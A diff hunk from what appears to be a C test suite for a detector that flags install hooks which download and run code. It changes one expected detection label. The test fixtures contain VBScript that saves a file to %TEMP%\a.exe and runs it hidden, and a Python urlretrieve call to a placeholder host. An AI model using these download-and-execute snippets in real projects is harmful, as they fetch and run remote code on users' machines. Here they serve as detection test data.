@@ -495,7 +495,7 @@ TEST(saved_and_started)
                        "s.SaveToFile \"%TEMP%\\a.exe\"\n"
                        "CreateObject(\"WScript.Shell\").Run \"%TEMP%\\a.exe\", 0\n",
                        0 }),
-               "install download.run how=saved host=c.example.invalid");
+               "install download.run how=lolbin host=c.example.invalid");
         expect_not(FILES(HOOK("python3 a.py"),
                          { "a.py",
                            "urlretrieve('https://c.example.invalid/a.tgz', 'a.tgz')\n"
